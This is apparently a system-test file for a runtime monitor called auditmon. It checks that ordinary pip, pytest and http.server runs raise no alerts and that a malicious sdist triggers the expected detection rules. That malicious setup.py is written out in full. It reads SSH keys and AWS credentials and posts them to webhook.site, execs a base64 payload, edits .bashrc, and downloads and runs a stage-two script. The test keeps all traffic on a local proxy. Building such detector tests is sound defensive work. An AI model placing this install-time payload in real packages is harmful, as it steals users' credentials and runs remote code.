"""The built-in rules on real runs: a malicious sdist's setup.py raises each alert and
``--fail-on warning`` fails the run; ordinary work (pip installing a wheel from the
configured index and a benign sdist into a fresh venv, importing them, a pytest run of a
small project, ``python -m http.server`` serving a local request) raises nothing at
warning or above.

The network: 127.0.0.1 only.  The malicious setup.py "posts" through an HTTP proxy the
test runs on 127.0.0.1 (urllib honours ``http_proxy``), so nothing leaves the machine;
the one exception is the benign wheel install, which talks to pip's configured index,
as the issue asks (skipped where that index cannot be reached).
"""

from __future__ import annotations

import base64
import http.server
import json
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import urllib.request
import venv
from pathlib import Path

import pytest
from helpers import clean_env, local_index_options, wait_for

from auditmon.model.priority import at_least

pytestmark = pytest.mark.system

#: How pip builds the sdists here: as a user would, in an isolated build environment whose
#: setuptools comes from this machine's own package index (pip's configured ``file://``
#: index); where there is none, in the test's venv without isolation and no index at all,
#: so that nothing ever leaves the machine.
_LOCAL_INDEX = local_index_options()
PIP_BUILD_OPTIONS: tuple[str, ...] = (
    _LOCAL_INDEX if isinstance(_LOCAL_INDEX, tuple) else ("--no-build-isolation", "--no-index")
)
EXIT_ALERTS = 3


def run_auditmon(
    *command: str, alerts: Path, env: dict[str, str], cwd: Path | None = None, **options
):
    """``auditmon run --headless --rules default --fail-on warning --alerts FILE``."""
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "auditmon",
            "run",
            "--headless",
            "--rules",
            "default",
            "--fail-on",
            "warning",
            "--alerts",
            str(alerts),
            "--",
            *command,
        ],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=600,
        **options,
    )


def alerts_in(path: Path) -> list[dict]:
    with open(path, encoding="utf-8") as file:
        return [json.loads(line) for line in file if line.strip()]


def loud(alerts: list[dict]) -> list[tuple[str, str]]:
    """The alerts at warning or above, as (rule, output)."""
    return [(a["rule"], a["output"]) for a in alerts if at_least(a["priority"].lower(), "warning")]


# -- the stage: a fake home, a fresh venv, packages ------------------------------------


@pytest.fixture(scope="module")
def stage(tmp_path_factory):
    """A home with secrets in it, a fresh venv, and where to put things."""
    root = tmp_path_factory.mktemp("vetting")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = fake\n")
    (home / ".bashrc").write_text("# the fake home's bashrc\n")
    venv.create(root / "venv", with_pip=True)
    env = clean_env(HOME=str(home), PIP_DISABLE_PIP_VERSION_CHECK="1", PIP_NO_INPUT="1")
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy"):
        env.pop(name, None)
    return {"root": root, "home": home, "venv": root / "venv", "env": env}


def pip(stage, *args: str) -> list[str]:
    return [str(stage["venv"] / "bin" / "pip"), *args]


def write_sdist(folder: Path, name: str, setup_body: str) -> Path:
    """A setup.py project (no pyproject.toml), as many sdists still are."""
    project = folder / name
    (project / name).mkdir(parents=True)
    (project / name / "__init__.py").write_text(
        "import collections, dataclasses\n"
        "@dataclasses.dataclass\n"
        "class Thing:\n"
        "    size: int = 0\n"
        "Pair = collections.namedtuple('Pair', 'a b')\n"
        "def main():\n"
        "    return Thing(1), Pair(1, 2)\n"
    )
    (project / "setup.py").write_text(textwrap.dedent(setup_body).format(name=name))
    return project


@pytest.fixture(scope="module")
def wheel_installed(stage):
    """pip installing a wheel from its configured index, under auditmon: ordinary work,
    and what the sdists below need to be built without isolation (``wheel``)."""
    alerts = stage["root"] / "wheel-alerts.jsonl"
    result = run_auditmon(*pip(stage, "install", "wheel"), alerts=alerts, env=stage["env"])
    if result.returncode == 1 and "Successfully installed" not in result.stdout:
        pytest.skip(f"pip's configured index is not reachable here: {result.stdout[-300:]}")
    return result, alerts_in(alerts)


# -- ordinary work ----------------------------------------------------------------------


def test_pip_installing_a_wheel_from_its_index_raises_nothing_at_warning(wheel_installed):
    result, alerts = wheel_installed
    assert result.returncode == 0, result.stdout + result.stderr
    assert loud(alerts) == []


def test_pip_installing_a_benign_sdist_and_importing_it_raise_nothing(stage, wheel_installed):
    project = write_sdist(
        stage["root"],
        "goodpkg",
        """\
        from setuptools import setup
        setup(name="{name}", version="1.0", packages=["{name}"],
              entry_points={{"console_scripts": ["{name}={name}:main"]}})
        """,
    )
    alerts = stage["root"] / "sdist-alerts.jsonl"
    command = pip(stage, "install", *PIP_BUILD_OPTIONS, "--no-deps", str(project))
    result = run_auditmon(*command, alerts=alerts, env=stage["env"])
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Successfully installed goodpkg" in result.stdout
    assert loud(alerts_in(alerts)) == []

    python = str(stage["venv"] / "bin" / "python")
    code = "import goodpkg, wheel, packaging.version; goodpkg.main()"
    result = run_auditmon(python, "-c", code, alerts=alerts, env=stage["env"])
    assert result.returncode == 0, result.stderr
    assert alerts_in(alerts) == []


def test_a_pytest_run_of_a_small_project_raises_nothing(stage):
    project = stage["root"] / "project"
    (project / "tests").mkdir(parents=True)
    (project / "shapes.py").write_text(
        textwrap.dedent(
            """\
            import dataclasses
            from collections import namedtuple
            from typing import NamedTuple, Optional

            @dataclasses.dataclass(frozen=True)
            class Money:
                amount: int
                currency: str = "EUR"

            Pair = namedtuple("Pair", "left right")

            class Point(NamedTuple):
                x: int
                y: Optional[int] = None
            """
        )
    )
    (project / "tests" / "test_shapes.py").write_text(
        textwrap.dedent(
            """\
            import json, os, socket, subprocess, sys, tempfile, threading
            import pytest
            from shapes import Money, Pair, Point

            def test_values():
                assert Money(3) == Money(3, "EUR") and Pair(1, 2).left == 1
                assert Point(1).y is None

            @pytest.mark.parametrize("n", [1, 2, 3])
            @pytest.mark.skipif("sys.platform == 'win32'")
            def test_params(n):
                assert n * 2 == n + n

            def test_files(tmp_path):
                (tmp_path / "a.json").write_text(json.dumps([1]))
                with tempfile.NamedTemporaryFile("w", delete=False) as f:
                    f.write("x")
                os.remove(f.name)
                assert json.loads((tmp_path / "a.json").read_text()) == [1]

            def test_subprocesses():
                done = subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True)
                assert done.stdout == b"1\\n"
                assert subprocess.run(["true"]).returncode == 0

            def test_local_socket():
                server = socket.create_server(("127.0.0.1", 0))
                port = server.getsockname()[1]
                def echo():
                    conn, _ = server.accept()
                    conn.sendall(conn.recv(4))
                    conn.close()
                threading.Thread(target=echo).start()
                with socket.create_connection(("127.0.0.1", port)) as client:
                    client.sendall(b"ping")
                    assert client.recv(4) == b"ping"
                server.close()

            def test_assertion_rewriting():
                with pytest.raises(AssertionError):
                    assert {"a": [1, 2]} == {"a": [1, 3]}
            """
        )
    )
    alerts = stage["root"] / "pytest-alerts.jsonl"
    command = (sys.executable, "-m", "pytest", "-q", "-p", "no:randomly", "tests")
    result = run_auditmon(*command, alerts=alerts, env=stage["env"], cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "8 passed" in result.stdout
    assert loud(alerts_in(alerts)) == []


def test_http_server_serving_a_local_request_raises_nothing(stage):
    site = stage["root"] / "site"
    site.mkdir()
    (site / "index.html").write_text("<h1>hello</h1>\n")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    alerts = stage["root"] / "http-alerts.jsonl"
    command = [sys.executable, "-m", "auditmon", "run", "--headless", "--rules", "default"]
    command += ["--alerts", str(alerts), "--", sys.executable, "-m", "http.server"]
    command += ["--bind", "127.0.0.1", str(port)]
    server = subprocess.Popen(
        command, cwd=site, env=stage["env"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        page = wait_for(lambda: _fetch(f"http://127.0.0.1:{port}/"), message="the page")
        assert page == b"<h1>hello</h1>\n"
    finally:
        server.send_signal(signal.SIGTERM)  # auditmon passes it on to the server
        server.communicate(timeout=60)
    assert alerts_in(alerts) == []


def _fetch(url: str) -> bytes | None:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(url, timeout=5) as response:
            return response.read()
    except OSError:
        return None


# -- a malicious sdist --------------------------------------------------------------------


class Proxy(http.server.ThreadingHTTPServer):
    """An HTTP proxy on 127.0.0.1 that forwards nothing: it notes each request and
    answers a GET with a small shell script, a POST with "ok"."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _ProxyHandler)
        self.requests: list[tuple[str, str]] = []


class _ProxyHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self._answer(b"#!/bin/sh\nexit 0\n")

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._answer(b"ok")

    def _answer(self, body: bytes) -> None:
        self.server.requests.append((self.command, self.path))  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


PAYLOAD = base64.b64encode(b"import os\nMARKER = os.getpid()\n").decode()
EVIL_SETUP = f"""\
import base64, os, subprocess, urllib.request
from setuptools import setup

home = os.path.expanduser("~")
stolen = b""
for name in (".ssh/id_rsa", ".aws/credentials"):
    with open(os.path.join(home, name), "rb") as secret:
        stolen += secret.read()
request = urllib.request.Request("http://webhook.site/c0ffee", data=stolen, method="POST")
urllib.request.urlopen(request, timeout=30).read()
os.system("echo pwned > /dev/null")
exec(base64.b64decode("{PAYLOAD}"))
with open(os.path.join(home, ".bashrc"), "a") as rc:
    rc.write("\\n# {{name}} was here\\n")
stage2 = urllib.request.urlopen("http://198.51.100.7/stage2.sh", timeout=30).read()
path = "/tmp/{{name}}-stage2-%d.sh" % os.getpid()
with open(path, "wb") as script:
    script.write(stage2)
os.chmod(path, 0o755)
subprocess.run([path])
os.remove(path)
setup(name="{{name}}", version="6.6.6", packages=["{{name}}"])
"""

EXPECTED = {
    "Read SSH private keys or configuration",
    "Read cloud credentials",
    "Contact with a webhook or request-capture service",
    "Secret read, then another host contacted",
    "Network contact during a package build",
    "Shell command run by a package build or an installed package",
    "Code from a string executed",
    "Write to a shell start-up file",
    "Download then execute",
}


def test_a_malicious_sdist_raises_each_alert_and_fails_the_run(stage):
    project = write_sdist(stage["root"], "evilpkg", EVIL_SETUP)
    proxy = Proxy()
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    env = dict(stage["env"], http_proxy=f"http://127.0.0.1:{proxy.server_address[1]}")
    alerts_path = stage["root"] / "evil-alerts.jsonl"
    command = pip(stage, "install", *PIP_BUILD_OPTIONS, "--no-deps", str(project))
    try:
        result = run_auditmon(*command, alerts=alerts_path, env=env)
    finally:
        proxy.shutdown()
        proxy.server_close()
    alerts = alerts_in(alerts_path)
    fired = {a["rule"] for a in alerts}
    assert EXPECTED - fired == set(), (result.stdout + result.stderr)[-3000:]
    assert result.returncode == EXIT_ALERTS
    assert "at warning or above: exit status 3" in result.stderr
    # What was "sent" went to the proxy on 127.0.0.1, naming the hosts it was for.
    assert ("POST", "http://webhook.site/c0ffee") in proxy.requests
    assert ("GET", "http://198.51.100.7/stage2.sh") in proxy.requests
    assert "evilpkg was here" in (stage["home"] / ".bashrc").read_text()
    # Each alert points at the line that did it.
    ssh = next(a for a in alerts if a["rule"] == "Read SSH private keys or configuration")
    assert ssh["output_fields"]["file.read"] == str(stage["home"] / ".ssh" / "id_rsa")
    assert ssh["output_fields"]["frame"].split(":")[0] in (str(project / "setup.py"), "<string>")
    assert "Alerts:" in result.stderr and "Critical" in result.stderr
